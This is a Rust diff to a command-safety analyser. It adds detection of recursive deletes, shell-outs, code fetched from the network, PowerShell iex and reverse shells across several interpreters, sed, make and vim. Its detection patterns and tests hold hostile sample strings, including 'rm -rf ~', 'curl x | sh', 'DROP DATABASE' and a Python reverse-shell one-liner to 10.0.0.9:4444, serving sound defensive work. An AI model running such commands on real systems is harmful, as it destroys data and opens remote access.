@@ -26,6 +26,12 @@ pub fn sql_verbs(sql: &str) -> Vec<&'static str> {
     if !KEYS.iter().any(|k| lower.contains(k)) {
         return Vec::new();
     }
+    // `DROP/**/DATABASE`, `DROP -- x\nDATABASE`: comments separate words like spaces.
+    let lower = if lower.contains("/*") || lower.contains("--") {
+        strip_sql_comments(&lower)
+    } else {
+        lower
+    };
     let res = RES.get_or_init(|| {
         let pats: &[(&str, &str)] = &[
             (r"\bdrop\s+(database|schema)\b", "drop_database"),
@@ -56,6 +62,50 @@ pub fn sql_verbs(sql: &str) -> Vec<&'static str> {
     out
 }
 
+/// SQL with its comments replaced by spaces (outside quoted strings).
+fn strip_sql_comments(sql: &str) -> String {
+    let mut out = String::with_capacity(sql.len());
+    let mut chars = sql.chars().peekable();
+    let mut quote: Option<char> = None;
+    while let Some(c) = chars.next() {
+        match quote {
+            Some(q) => {
+                if c == q {
+                    quote = None;
+                }
+                out.push(c);
+            }
+            None => match (c, chars.peek()) {
+                ('\'' | '"', _) => {
+                    quote = Some(c);
+                    out.push(c);
+                }
+                ('/', Some('*')) => {
+                    chars.next();
+                    let mut prev = ' ';
+                    for d in chars.by_ref() {
+                        if prev == '*' && d == '/' {
+                            break;
+                        }
+                        prev = d;
+                    }
+                    out.push(' ');
+                }
+                ('-', Some('-')) => {
+                    for d in chars.by_ref() {
+                        if d == '\n' {
+                            break;
+                        }
+                    }
+                    out.push('\n');
+                }
+                _ => out.push(c),
+            },
+        }
+    }
+    out
+}
+
 /// The language of an interpreter program, if it is one.
 pub fn interpreter(program: &str) -> Option<&'static str> {
     let p = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
@@ -65,6 +115,11 @@ pub fn interpreter(program: &str) -> Option<&'static str> {
         "perl" => "perl",
         "ruby" | "jruby" => "ruby",
         "php" => "php",
+        "lua" | "luajit" => "lua",
+        "Rscript" | "R" => "r",
+        "pwsh" | "powershell" | "pwsh-preview" => "powershell",
+        "julia" => "julia",
+        "tclsh" | "wish" | "expect" => "tcl",
         _ => return None,
     })
 }
@@ -164,6 +219,12 @@ pub fn fetches_code(code: &str) -> bool {
         "curl_exec",
         "file_get_contents('http",
         "file_get_contents(\"http",
+        "Invoke-WebRequest",
+        "Invoke-RestMethod",
+        "iwr ",
+        "irm ",
+        "DownloadString",
+        "Net.WebClient",
     ];
     APIS.iter().any(|a| code.contains(a))
 }
@@ -229,9 +290,27 @@ pub fn code_source(lang: &str, args: &[String]) -> CodeSource {
             "perl" => short_cluster(a) && (a.ends_with('e') || a.ends_with('E')),
             "ruby" => short_cluster(a) && a.ends_with('e') && !a.starts_with("-r"),
             "php" => a == "-r",
+            "lua" | "r" | "julia" => a == "-e",
+            "tcl" => a == "-c",
+            "powershell" => {
+                let l = a.to_ascii_lowercase();
+                if matches!(l.as_str(), "-encodedcommand" | "-enc" | "-e" | "-ec") {
+                    // Base64 code: not readable here.
+                    return CodeSource::Inline(vec!["Invoke-Expression $encoded".into()]);
+                }
+                if matches!(l.as_str(), "-file" | "-f") {
+                    return CodeSource::Script;
+                }
+                matches!(l.as_str(), "-c" | "-command" | "-co" | "-com")
+            }
             _ => false,
         };
         if code_flag {
+            if lang == "powershell" {
+                // `pwsh -c Remove-Item -Recurse x`: the rest of the argv is the code.
+                inline.push(args[i + 1..].join(" "));
+                return CodeSource::Inline(inline);
+            }
             if let Some(c) = args.get(i + 1) {
                 inline.push(c.clone());
             }
@@ -257,6 +336,23 @@ pub fn code_source(lang: &str, args: &[String]) -> CodeSource {
             "perl" => matches!(a, "-I" | "-M") && a.len() == 2,
             "ruby" => matches!(a, "-I" | "-r" | "-C") && a.len() == 2,
             "php" => matches!(a, "-d" | "-c" | "-f"),
+            "lua" => a == "-l",
+            "julia" => matches!(a, "-L" | "--load" | "-t" | "--threads" | "-J" | "--project"),
+            "powershell" => matches!(
+                a.to_ascii_lowercase().as_str(),
+                "-executionpolicy"
+                    | "-ex"
+                    | "-ep"
+                    | "-workingdirectory"
+                    | "-wd"
+                    | "-configurationname"
+                    | "-outputformat"
+                    | "-of"
+                    | "-inputformat"
+                    | "-if"
+                    | "-windowstyle"
+                    | "-w"
+            ),
             _ => false,
         };
         if lang == "php" && a == "-f" {
@@ -310,7 +406,16 @@ const CODE_KEYS: &[&str] = &[
 
 /// Scans interpreter code.
 pub fn scan_code(code: &str, lang: &str) -> CodeFacts {
+    scan_code_at(code, lang, 0)
+}
+
+fn scan_code_at(code: &str, lang: &str, depth: usize) -> CodeFacts {
     let mut f = CodeFacts::default();
+    match lang {
+        "powershell" => return scan_powershell(code),
+        "tcl" => return scan_tcl(code),
+        _ => {}
+    }
     if !CODE_KEYS.iter().any(|k| code.contains(k)) {
         return f;
     }
@@ -320,10 +425,17 @@ pub fn scan_code(code: &str, lang: &str) -> CodeFacts {
         f.dynamic_exec = true;
         return f;
     };
-    if r.fork.is_match(code) {
+    // `import subprocess as s; s.run(…)`, `const {rmSync: x} = require('fs')`: calls through
+    // names bound to the modules are written back as the modules' own calls.
+    let normalized = normalize_aliases(code, lang);
+    let code = normalized.as_deref().unwrap_or(code);
+    // Text inside string literals (and comments) is data: a call named there does not run.
+    let data = data_spans(code, lang);
+    let is_code = |at: usize| !data.get(at).copied().unwrap_or(false);
+    if r.fork.find_iter(code).any(|m| is_code(m.start())) {
         f.fork_bomb = true;
     }
-    for m in r.rmtree.find_iter(code) {
+    for m in r.rmtree.find_iter(code).filter(|m| is_code(m.start())) {
         let tail = &code[m.end()..];
         let recursive_needed = lang == "node" && !m.as_str().contains("rimraf");
         let call = call_args(tail);
@@ -334,6 +446,7 @@ pub fn scan_code(code: &str, lang: &str) -> CodeFacts {
     }
     if lang == "python"
         && code.contains("walk(")
+        && code.find("walk(").is_some_and(is_code)
         && (code.contains("remove(") || code.contains("unlink(") || code.contains("rmdir("))
     {
         // `for r, _, fs in os.walk(D): os.remove(…)`: a hand-written recursive delete.
@@ -342,7 +455,7 @@ pub fn scan_code(code: &str, lang: &str) -> CodeFacts {
                 .push(first_literal(call_args(&code[i + 5..])));
         }
     }
-    for m in r.shellout.find_iter(code) {
+    for m in r.shellout.find_iter(code).filter(|m| is_code(m.start())) {
         if lang == "node" && !m.as_str().ends_with('(') {
             // `const {execSync} = require(…)`: a name, not a call.
             continue;
@@ -353,7 +466,19 @@ pub fn scan_code(code: &str, lang: &str) -> CodeFacts {
         let tail = &code[m.end()..];
         let call = call_args(tail);
         let trimmed = call.trim_start();
-        let shell_string = name.contains("system")
+        if lang == "python" && matches!(name, "exec" | "eval") {
+            // `exec("import os; os.system(…)")`: a literal is more code to read.
+            match leading_literal(trimmed) {
+                Some(_) if depth < 2 => {
+                    let inner = escaped_literal(trimmed).unwrap_or_default();
+                    merge(&mut f, scan_code_at(&inner, lang, depth + 1));
+                }
+                _ => f.dynamic_exec = true,
+            }
+            continue;
+        }
+        let shell_string = (name.contains("system") && !name.contains("system2"))
+            || name.ends_with("execute")
             || name.contains("popen")
             || name.contains("getoutput")
             || name.contains("execSync")
@@ -382,6 +507,9 @@ pub fn scan_code(code: &str, lang: &str) -> CodeFacts {
                 } else {
                     f.shell.push(lit);
                 }
+            } else if lang == "r" {
+                // `system2("rm", c("-rf", "x"))`
+                f.argv.push(literals(call));
             } else {
                 // `spawn("rm", ["-rf", "x"])`, `execFileSync("rm", [...])`
                 let mut argv = vec![lit];
@@ -394,7 +522,22 @@ pub fn scan_code(code: &str, lang: &str) -> CodeFacts {
             f.dynamic_exec = true;
         }
     }
-    if matches!(lang, "perl" | "ruby" | "php") {
+    if lang == "r" || lang == "julia" {
+        // `unlink(d, recursive = TRUE)`, `rm(d; recursive=true)`
+        for m in r
+            .recursive_call
+            .find_iter(code)
+            .filter(|m| is_code(m.start()))
+        {
+            // Julia separates keyword arguments with `;` inside the parentheses.
+            let call = code[m.end()..].split(')').next().unwrap_or("");
+            let lower = call.to_ascii_lowercase();
+            if lower.contains("recursive") && (lower.contains("true") || lower.contains("= t")) {
+                f.recursive_deletes.push(first_literal(call));
+            }
+        }
+    }
+    if matches!(lang, "perl" | "ruby" | "php" | "julia") {
         for c in r.backtick.captures_iter(code) {
             if let Some(m) = c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)) {
                 f.shell.push(m.as_str().to_string());
@@ -402,6 +545,9 @@ pub fn scan_code(code: &str, lang: &str) -> CodeFacts {
         }
     }
     for c in r.read.captures_iter(code) {
+        if c.get(0).is_some_and(|m| !is_code(m.start())) {
+            continue;
+        }
         let mode = c.get(2).map(|m| m.as_str()).unwrap_or("");
         if let Some(p) = c.get(1) {
             if mode.contains('w') || mode.contains('a') {
@@ -420,6 +566,7 @@ struct CodeRes {
     shellout: Regex,
     backtick: Regex,
     read: Regex,
+    recursive_call: Regex,
 }
 
 impl CodeRes {
@@ -434,10 +581,11 @@ impl CodeRes {
             )
             .ok()?,
             shellout: Regex::new(
-                r"\b(os\.system|os\.popen|os\.exec\w*|subprocess\.(run|call)|(\w+\.)?(check_call|check_output|Popen|getoutput|getstatusoutput)|commands\.getoutput|(child_process\.)?(execSync|execFileSync|spawnSync|spawn|execFile|exec)|system|shell_exec|passthru|proc_open|popen|IO\.popen|Open3\.\w+|Kernel\.(system|exec|spawn)|Process\.spawn)\s*\(?",
+                r"\b(os\.system|os\.popen|os\.execute|io\.popen|os\.exec\w*|subprocess\.(run|call)|Bun\.spawn(Sync)?|Deno\.Command|system2|(\w+\.)?(check_call|check_output|Popen|getoutput|getstatusoutput)|commands\.getoutput|(child_process\.)?(execSync|execFileSync|spawnSync|spawn|execFile|exec)|system|shell_exec|passthru|proc_open|popen|IO\.popen|Open3\.\w+|Kernel\.(system|exec|spawn)|Process\.spawn)\s*\(?",
             )
             .ok()?,
             backtick: Regex::new(r"`([^`]+)`|%x\(([^)]*)\)|%x\{([^}]*)\}").ok()?,
+            recursive_call: Regex::new(r"\b(unlink|rm)\s*\(").ok()?,
             read: Regex::new(
                 r#"(?:\bopen|readFileSync|readFile|File\.read|File\.open|IO\.read|file_get_contents|Path|read_text|read_bytes)\s*\(\s*['"]([^'"]+)['"]\s*(?:,\s*['"]([rwab+]+)['"])?"#,
             )
@@ -504,6 +652,492 @@ fn literals(s: &str) -> Vec<String> {
         }
     }
     out
+}
+
+/// Adds what a nested piece of code does to the facts of the code around it.
+fn merge(f: &mut CodeFacts, inner: CodeFacts) {
+    f.shell.extend(inner.shell);
+    f.argv.extend(inner.argv);
+    f.dynamic_exec |= inner.dynamic_exec;
+    f.recursive_deletes.extend(inner.recursive_deletes);
+    f.reads.extend(inner.reads);
+    f.writes.extend(inner.writes);
+    f.fork_bomb |= inner.fork_bomb;
+}
+
+/// The string literal `s` starts with (after blanks), backslash escapes honoured and removed.
+fn escaped_literal(s: &str) -> Option<String> {
+    let mut chars = s.trim_start().chars();
+    let q = chars.next().filter(|c| matches!(c, '\'' | '"'))?;
+    let mut out = String::new();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' => out.extend(chars.next()),
+            c if c == q => return Some(out),
+            c => out.push(c),
+        }
+    }
+    None
+}
+
+/// For each byte of `code`, whether it is data: inside a string literal (its quotes
+/// included) or a comment. Backticks are commands in Perl, Ruby, PHP and Julia, strings in
+/// JavaScript.
+fn data_spans(code: &str, lang: &str) -> Vec<bool> {
+    let b = code.as_bytes();
+    let mut data = vec![false; b.len()];
+    let hash_comments = matches!(lang, "python" | "ruby" | "r");
+    let mut i = 0;
+    while i < b.len() {
+        let c = b[i];
+        let triple = lang == "python"
+            && (c == b'"' || c == b'\'')
+            && b.get(i + 1) == Some(&c)
+            && b.get(i + 2) == Some(&c);
+        if triple {
+            let end = (i + 3..b.len().saturating_sub(2))
+                .find(|&j| b[j] == c && b[j + 1] == c && b[j + 2] == c)
+                .map_or(b.len(), |j| j + 3);
+            data[i..end].iter_mut().for_each(|d| *d = true);
+            i = end;
+            continue;
+        }
+        if c == b'"' || c == b'\'' || (c == b'`' && lang == "node") {
+            let mut j = i + 1;
+            while j < b.len() && b[j] != c {
+                if b[j] == b'\\' {
+                    j += 1;
+                }
+                j += 1;
+            }
+            let end = (j + 1).min(b.len());
+            data[i..end].iter_mut().for_each(|d| *d = true);
+            i = end;
+            continue;
+        }
+        let comment = (hash_comments && c == b'#')
+            || (lang == "node" && c == b'/' && b.get(i + 1) == Some(&b'/'));
+        if comment {
+            let end = (i..b.len()).find(|&j| b[j] == b'\n').unwrap_or(b.len());
+            data[i..end].iter_mut().for_each(|d| *d = true);
+            i = end;
+            continue;
+        }
+        i += 1;
+    }
+    data
+}
+
+/// Modules whose functions delete trees or run processes, by the names code imports them as.
+const ALIASED_MODULES: &[&str] = &[
+    "os",
+    "shutil",
+    "subprocess",
+    "pty",
+    "commands",
+    "fs",
+    "fs.promises",
+    "child_process",
+];
+
+/// Rewrites calls made through names bound to [`ALIASED_MODULES`] (or their functions) as
+/// calls of the modules themselves. `None` when the code binds no such name.
+fn normalize_aliases(code: &str, lang: &str) -> Option<String> {
+    if !matches!(lang, "python" | "node") {
+        return None;
+    }
+    static RES: OnceLock<Option<[Regex; 7]>> = OnceLock::new();
+    let res = RES.get_or_init(|| {
+        Some([
+            // Python: `import X as Y`
+            Regex::new(r"\bimport\s+([\w., ]+)").ok()?,
+            // Python: `from X import a as b, c`
+            Regex::new(r"\bfrom\s+([\w.]+)\s+import\s+([\w\s,]+)").ok()?,
+            // `__import__('X')`, `importlib.import_module('X')`, `require('X')`, `import('X')`
+            Regex::new(
+                r#"(?:__import__|importlib\.import_module|require|\bimport)\s*\(\s*['"](?:node:)?([\w/]+)['"]\s*\)"#,
+            )
+            .ok()?,
+            // JS: `const X = fs.promises` (after the rewrite above)
+            Regex::new(r"\b(?:const|let|var)\s+(\w+)\s*=\s*([\w.]+)").ok()?,
+            // JS: `const {a: b, c} = fs`
+            Regex::new(r"\b(?:const|let|var)\s*\{([^}]*)\}\s*=\s*([\w.]+)").ok()?,
+            // JS: `import {a as b} from 'X'`, `import * as X from 'X'`, `import X from 'X'`
+            Regex::new(
+                r#"\bimport\s+(?:\{([^}]*)\}|\*\s+as\s+(\w+)|(\w+))\s+from\s+['"](?:node:)?([\w/]+)['"]"#,
+            )
+            .ok()?,
+            // JS: `fs.then(f => f.rmSync(…))`
+            Regex::new(r"([\w.]+)\.then\(\s*\(?\s*(\w+)\s*\)?\s*=>").ok()?,
+        ])
+    });
+    let [import_as, from_import, dynamic, js_assign, js_destructure, js_import, js_then] =
+        res.as_ref()?;
+    let module = |m: &str| m.replace('/', ".");
+    let known = |m: &str| ALIASED_MODULES.contains(&m);
+    let original = code;
+    let mut code = dynamic
+        .replace_all(code, |c: &regex::Captures| module(&c[1]))
+        .into_owned();
+    // (name, what it stands for)
+    let mut names: Vec<(String, String)> = Vec::new();
+    for c in import_as.captures_iter(&code) {
+        for item in c[1].split(',') {
+            if let [m, "as", a] = item.split_whitespace().collect::<Vec<_>>().as_slice() {
+                if known(m) {
+                    names.push((a.to_string(), m.to_string()));
+                }
+            }
+        }
+    }
+    for c in from_import.captures_iter(&code) {
+        if !known(&c[1]) {
+            continue;
+        }
+        for item in c[2].split(',') {
+            let parts: Vec<&str> = item.split_whitespace().collect();
+            match parts.as_slice() {
+                [f, "as", a, ..] => names.push((a.to_string(), format!("{}.{f}", &c[1]))),
+                [f, ..] if *f != "*" => names.push((f.to_string(), format!("{}.{f}", &c[1]))),
+                _ => {}
+            }
+        }
+    }
+    for c in js_assign.captures_iter(&code) {
+        if known(&c[2]) {
+            names.push((c[1].to_string(), c[2].to_string()));
+        }
+    }
+    for c in js_destructure.captures_iter(&code) {
+        if !known(&c[2]) {
+            continue;
+        }
+        for item in c[1].split(',') {
+            let (f, a) = item.split_once(':').unwrap_or((item, item));
+            let (f, a) = (f.trim(), a.trim());
+            if !f.is_empty() && !a.is_empty() {
+                names.push((a.to_string(), format!("{}.{f}", &c[2])));
+            }
+        }
+    }
+    for c in js_import.captures_iter(&code) {
+        let m = module(&c[4]);
+        if !known(&m) {
+            continue;
+        }
+        if let Some(items) = c.get(1) {
+            for item in items.as_str().split(',') {
+                let parts: Vec<&str> = item.split_whitespace().collect();
+                match parts.as_slice() {
+                    [f, "as", a] => names.push((a.to_string(), format!("{m}.{f}"))),
+                    [f] => names.push((f.to_string(), format!("{m}.{f}"))),
+                    _ => {}
+                }
+            }
+        } else if let Some(a) = c.get(2).or_else(|| c.get(3)) {
+            names.push((a.as_str().to_string(), m));
+        }
+    }
+    for c in js_then.captures_iter(&code) {
+        if known(&c[1]) {
+            names.push((c[2].to_string(), c[1].to_string()));
+        }
+    }
+    names.retain(|(a, t)| a != t && a.chars().all(|c| c == '_' || c.is_ascii_alphanumeric()));
+    if names.is_empty() {
+        return (code != original).then_some(code);
+    }
+    for (alias, target) in names.iter().take(16) {
+        if let Ok(re) = Regex::new(&format!(r"\b{}\s*([.(])", regex::escape(alias))) {
+            code = re
+                .replace_all(&code, |c: &regex::Captures| format!("{target}{}", &c[1]))
+                .into_owned();
+        }
+    }
+    Some(code)
+}
+
+/// PowerShell: `Remove-Item -Recurse`, `rm -r`, and every other command read as a command
+/// line; `iex` of downloaded text is code fetched and run.
+fn scan_powershell(code: &str) -> CodeFacts {
+    static RES: OnceLock<Option<(Regex, Regex, Regex)>> = OnceLock::new();
+    let mut f = CodeFacts::default();
+    let Some((names, recurse, iex)) = RES.get_or_init(|| {
+        Some((
+            Regex::new(r"(?i)\b(Remove-Item|ri|del|erase|rd|rmdir)\b").ok()?,
+            Regex::new(r"(?i)(^|\s)-(Recurse|r)\b").ok()?,
+            Regex::new(r"(?i)\b(iex|Invoke-Expression|Invoke-Command|icm|Start-Process|saps)\b")
+                .ok()?,
+        ))
+    }) else {
+        f.dynamic_exec = true;
+        return f;
+    };
+    let line = names.replace_all(code, "rm");
+    let line = recurse.replace_all(&line, "$1-r");
+    f.shell.push(line.into_owned());
+    if iex.is_match(code) {
+        f.dynamic_exec = true;
+    }
+    f
+}
+
+/// Tcl and expect: `exec PROG ARGS` and `spawn PROG ARGS` run programs.
+fn scan_tcl(code: &str) -> CodeFacts {
+    static RE: OnceLock<Option<Regex>> = OnceLock::new();
+    let mut f = CodeFacts::default();
+    let Some(re) = RE.get_or_init(|| Regex::new(r"\b(exec|spawn|system)\s+([^\]\n;}]+)").ok())
+    else {
+        f.dynamic_exec = true;
+        return f;
+    };
+    for c in re.captures_iter(code) {
+        f.shell.push(c[2].trim().to_string());
+    }
+    f
+}
+
+/// Interpreter code that connects a socket and hands it a shell: a reverse shell. The hosts
+/// named in the code (or `(unknown)`).
+pub fn reverse_shell(code: &str) -> Option<Vec<String>> {
+    static RES: OnceLock<Option<(Regex, Regex, Regex)>> = OnceLock::new();
+    let (socket, shell, host) = RES
+        .get_or_init(|| {
+            Some((
+                Regex::new(
+                    r"(?i)socket\.socket|socket\s*\(|fsockopen|stream_socket_client|TCPSocket|IO::Socket|net\.Socket|net\.connect|new\s+Socket|Socket\.new|socket\.create_connection",
+                )
+                .ok()?,
+                Regex::new(
+                    r#"dup2|pty\.spawn|/bin/(ba|z|da)?sh|['"](ba|z)?sh['"]|\bsh -i|cmd\.exe|proc_open|\bexec\s*\(?\s*sprintf|\.pipe\(\s*\w+\.stdin"#,
+                )
+                .ok()?,
+                Regex::new(r#"['"](\d{1,3}(?:\.\d{1,3}){3}|[a-zA-Z0-9-]+(?:\.[a-zA-Z0-9-]+)*\.[a-zA-Z]{2,})['"]"#).ok()?,
+            ))
+        })
+        .as_ref()?;
+    if !(socket.is_match(code) && shell.is_match(code)) {
+        return None;
+    }
+    let mut hosts: Vec<String> = host
+        .captures_iter(code)
+        .map(|c| c[1].to_ascii_lowercase())
+        .filter(|h| !h.ends_with(".py") && !h.ends_with(".sh"))
+        .collect();
+    hosts.dedup();
+    if hosts.is_empty() {
+        hosts.push("(unknown)".into());
+    }
+    Some(hosts)
+}
+
+/// What a `sed` script does beyond editing text.
+#[derive(Debug, Default, PartialEq)]
+pub struct SedFacts {
+    /// Command lines it runs (`e CMD`, `s/…/CMD/e`).
+    pub commands: Vec<String>,
+    /// It runs text built from the input (`e` alone, `s/…/\1/e`).
+    pub dynamic: bool,
+    pub writes: Vec<String>,
+    pub reads: Vec<String>,
+}
+
+/// Reads a sed script's commands (GNU syntax): addresses, `{`/`}`, `s`, `y`, `a`/`i`/`c`
+/// text, `e`, `r`/`w` files, labels.
+pub fn scan_sed(script: &str) -> SedFacts {
+    let c: Vec<char> = script.chars().collect();
+    let n = c.len();
+    let mut f = SedFacts::default();
+    let mut i = 0;
+    let until = |i: &mut usize, delim: char| -> String {
+        let mut out = String::new();
+        while *i < n && c[*i] != delim {
+            if c[*i] == '\\' && *i + 1 < n {
+                out.push(c[*i]);
+                *i += 1;
+            }
+            out.push(c[*i]);
+            *i += 1;
+        }
+        *i += 1;
+        out
+    };
+    let rest_of_line = |i: &mut usize| -> String {
+        let start = *i;
+        while *i < n && c[*i] != '\n' {
+            *i += 1;
+        }
+        c[start..*i].iter().collect::<String>().trim().to_string()
+    };
+    let mut steps = 0;
+    while i < n && steps < 10_000 {
+        steps += 1;
+        while i < n && matches!(c[i], ' ' | '\t' | '\n' | ';') {
+            i += 1;
+        }
+        if i >= n {
+            break;
+        }
+        // Up to two addresses.
+        for _ in 0..2 {
+            while i < n && c[i] == ' ' {
+                i += 1;
+            }
+            if i < n && (c[i].is_ascii_digit() || c[i] == '$') {
+                while i < n && (c[i].is_ascii_digit() || matches!(c[i], '$' | '~' | '+')) {
+                    i += 1;
+                }
+            } else if i < n && c[i] == '/' {
+                i += 1;
+                until(&mut i, '/');
+                while i < n && matches!(c[i], 'I' | 'M') {
+                    i += 1;
+                }
+            } else if i + 1 < n && c[i] == '\\' {
+                let d = c[i + 1];
+                i += 2;
+                until(&mut i, d);
+            }
+            if i < n && c[i] == ',' {
+                i += 1;
+                continue;
+            }
+            break;
+        }
+        while i < n && matches!(c[i], ' ' | '!') {
+            i += 1;
+        }
+        if i >= n {
+            break;
+        }
+        let cmd = c[i];
+        i += 1;
+        match cmd {
+            'e' => {
+                let line = rest_of_line(&mut i);
+                if line.is_empty() {
+                    f.dynamic = true;
+                } else {
+                    f.commands.push(line);
+                }
+            }
+            's' if i < n => {
+                let d = c[i];
+                i += 1;
+                until(&mut i, d);
+                let replacement = until(&mut i, d);
+                let mut flags = String::new();
+                while i < n && !matches!(c[i], ';' | '\n' | '}') {
+                    if c[i] == 'w' {
+                        i += 1;
+                        f.writes.push(rest_of_line(&mut i));
+                        break;
+                    }
+                    flags.push(c[i]);
+                    i += 1;
+                }
+                if flags.contains('e') {
+                    if replacement.contains('&') || replacement.contains('\\') {
+                        f.dynamic = true;
+                    } else {
+                        f.commands.push(replacement);
+                    }
+                }
+            }
+            'y' if i < n => {
+                let d = c[i];
+                i += 1;
+                until(&mut i, d);
+                until(&mut i, d);
+            }
+            'a' | 'i' | 'c' => {
+                let mut line = rest_of_line(&mut i);
+                while line.ends_with('\\') && i < n {
+                    i += 1;
+                    line = rest_of_line(&mut i);
+                }
+            }
+            'r' | 'R' => f.reads.push(rest_of_line(&mut i)),
+            'w' | 'W' => f.writes.push(rest_of_line(&mut i)),
+            ':' | 'b' | 't' | 'T' => {
+                while i < n && !matches!(c[i], ';' | '\n') {
+                    i += 1;
+                }
+            }
+            _ => {}
+        }
+    }
+    f.writes
+        .retain(|w| !w.is_empty() && w != "/dev/stdout" && w != "/dev/stderr");
+    f.reads.retain(|r| !r.is_empty());
+    f
+}
+
+/// The recipes of a makefile text: tab-indented lines, `target: ; recipe`, and `$(shell …)`.
+pub fn make_recipes(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for line in text.lines() {
+        if let Some(r) = line.strip_prefix('\t') {
+            out.push(r.trim_start_matches(['@', '-', '+']).to_string());
+        } else if let Some((head, recipe)) = line.split_once(';') {
+            if head.contains(':') && !head.contains(":=") && !head.contains('=') {
+                out.push(recipe.trim_start_matches(['@', '-', '+', ' ']).to_string());
+            }
+        }
+        let mut rest = line;
+        while let Some(k) = rest.find("$(shell ") {
+            let tail = &rest[k + 8..];
+            let end = tail.find(')').unwrap_or(tail.len());
+            out.push(tail[..end].to_string());
+            rest = &tail[end..];
+        }
+    }
+    out.iter()
+        .map(|r| r.replace("$$", "$"))
+        .filter(|r| !r.trim().is_empty())
+        .collect()
+}
+
+/// The shell command line an ex command (vim `-c`, `+cmd`) runs: `!cmd`, `r !cmd`,
+/// `w !cmd`, `silent !cmd`, `terminal cmd`, `call system('cmd')`.
+pub fn ex_shell(cmd: &str) -> Option<String> {
+    let mut s = cmd.trim_start().trim_start_matches(':').trim_start();
+    s = s
+        .trim_start_matches(|c: char| {
+            c.is_ascii_digit() || matches!(c, '%' | '.' | '$' | ',' | '\'' | '<' | '>')
+        })
+        .trim_start();
+    for p in [
+        "silent!",
+        "silent",
+        "sil!",
+        "sil",
+        "execute",
+        "exe",
+        "noautocmd",
+    ] {
+        if let Some(r) = s.strip_prefix(p) {
+            s = r.trim_start();
+        }
+    }
+    if let Some(r) = s.strip_prefix('!') {
+        return Some(r.to_string());
+    }
+    for p in ["read", "r", "write", "w"] {
+        if let Some(r) = s
+            .strip_prefix(p)
+            .and_then(|r| r.trim_start().strip_prefix('!'))
+        {
+            return Some(r.to_string());
+        }
+    }
+    for p in ["terminal ", "term "] {
+        if let Some(r) = s.strip_prefix(p) {
+            return Some(r.trim().to_string());
+        }
+    }
+    let k = s.find("system(")?;
+    leading_literal(&s[k + 7..])
 }
 
 #[cfg(test)]
@@ -580,5 +1214,104 @@ mod awk_tests {
             scan_awk(r#"$3 > 0 || $4 > 0 { print }"#),
             AwkCalls::default()
         );
+    }
+}
+
+#[cfg(test)]
+mod hidden_code_tests {
+    use super::*;
+
+    #[test]
+    fn sql_comments_do_not_hide_verbs() {
+        assert_eq!(sql_verbs("DROP/**/DATABASE prod"), vec!["drop_database"]);
+        assert_eq!(sql_verbs("drop -- x\ndatabase prod"), vec!["drop_database"]);
+    }
+
+    #[test]
+    fn sed_scripts_that_run_and_write() {
+        let f = scan_sed("1e rm -rf ~");
+        assert_eq!(f.commands, vec!["rm -rf ~".to_string()]);
+        assert_eq!(
+            scan_sed("s/.*/rm -rf ~/e").commands,
+            vec!["rm -rf ~".to_string()]
+        );
+        assert!(scan_sed("s/x/\\1/e").dynamic);
+        assert_eq!(
+            scan_sed("w /home/u/.bashrc").writes,
+            vec!["/home/u/.bashrc".to_string()]
+        );
+        assert_eq!(scan_sed("s/e/E/g"), SedFacts::default());
+        assert_eq!(scan_sed("$a curl x | sh"), SedFacts::default());
+        assert_eq!(scan_sed("1,20p;/re/d"), SedFacts::default());
+    }
+
+    #[test]
+    fn make_recipes_and_ex_commands() {
+        assert_eq!(
+            make_recipes("all:\n\t@rm -rf ~\n"),
+            vec!["rm -rf ~".to_string()]
+        );
+        assert_eq!(make_recipes("x:; rm -rf ~"), vec!["rm -rf ~".to_string()]);
+        assert_eq!(ex_shell(":!rm -rf ~").as_deref(), Some("rm -rf ~"));
+        assert_eq!(ex_shell("silent !ls").as_deref(), Some("ls"));
+        assert_eq!(ex_shell("r !id").as_deref(), Some("id"));
+        assert_eq!(ex_shell("call system('id')").as_deref(), Some("id"));
+        assert_eq!(ex_shell("set number"), None);
+        assert_eq!(ex_shell("wq"), None);
+    }
+
+    #[test]
+    fn calls_through_aliases_are_the_modules_calls() {
+        let f = scan_code("import subprocess as s; s.run(['rm','-rf','/x'])", "python");
+        assert_eq!(f.argv, vec![vec!["rm", "-rf", "/x"]]);
+        let f = scan_code("from shutil import rmtree as r; r('/x')", "python");
+        assert!(f.recursive_deletes.contains(&Some("/x".to_string())));
+        let f = scan_code(
+            "const {rmSync: x} = require('fs'); x('/x', {recursive: true})",
+            "node",
+        );
+        assert_eq!(f.recursive_deletes, vec![Some("/x".to_string())]);
+        let f = scan_code("require('fs/promises').rm('/x', {recursive:true})", "node");
+        assert_eq!(f.recursive_deletes.len(), 1);
+    }
+
+    #[test]
+    fn calls_named_in_strings_are_data() {
+        let f = scan_code("print('shutil.rmtree(\"/\") is dangerous')", "python");
+        assert!(f.recursive_deletes.is_empty());
+        let f = scan_code(
+            "open('a.md','w').write(\"os.system('rm -rf ~')\")",
+            "python",
+        );
+        assert!(f.shell.is_empty());
+        assert_eq!(f.writes, vec!["a.md".to_string()]);
+        let f = scan_code("exec(\"import os; os.system(\\\"rm -rf ~\\\")\")", "python");
+        assert_eq!(f.shell, vec!["rm -rf ~".to_string()]);
+    }
+
+    #[test]
+    fn more_languages() {
+        assert_eq!(interpreter("Rscript"), Some("r"));
+        assert_eq!(interpreter("lua5.4"), Some("lua"));
+        assert_eq!(interpreter("pwsh"), Some("powershell"));
+        let f = scan_code("os.execute(\"rm -rf ~\")", "lua");
+        assert_eq!(f.shell, vec!["rm -rf ~".to_string()]);
+        let f = scan_code("system2(\"rm\", c(\"-rf\", \"/x\"))", "r");
+        assert_eq!(f.argv, vec![vec!["rm", "-rf", "/x"]]);
+        let f = scan_code("rm(\"/x\"; recursive=true)", "julia");
+        assert_eq!(f.recursive_deletes, vec![Some("/x".to_string())]);
+        let f = scan_code("Remove-Item -Recurse -Force ~/p", "powershell");
+        assert_eq!(f.shell, vec!["rm -r -Force ~/p".to_string()]);
+        assert_eq!(
+            scan_code("exec rm -rf /x", "tcl").shell,
+            vec!["rm -rf /x".to_string()]
+        );
+    }
+
+    #[test]
+    fn reverse_shells_in_code() {
+        let code = "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")";
+        assert_eq!(reverse_shell(code), Some(vec!["10.0.0.9".to_string()]));
+        assert_eq!(reverse_shell("import socket; socket.gethostname()"), None);
     }
 }
